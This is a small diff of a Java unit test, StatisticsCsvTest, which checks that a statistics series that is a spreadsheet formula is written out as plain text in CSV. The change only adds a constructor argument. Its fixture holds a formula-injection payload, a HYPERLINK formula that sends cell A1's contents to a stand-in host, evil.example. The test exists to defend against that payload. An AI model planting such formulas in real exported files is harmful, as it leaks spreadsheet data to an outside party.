@@ -39,7 +39,7 @@ class StatisticsCsvTest {
     void aSeriesThatIsAFormulaIsWrittenAsText() {
         String series = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
         Statistics s = new Statistics(2022, null, null, 1, List.of(new Statistics.Count("PASS", "通过", 1)), List.of(),
-                List.of(new Statistics.Count(series, series, 1)), List.of(new Statistics.Count(null, "-江州区", 1)), 0);
+                List.of(new Statistics.Count(series, series, 1)), List.of(new Statistics.Count(null, "-江州区", 1)), 0, null);
 
         String csv = StatisticsCsv.write(s);
 
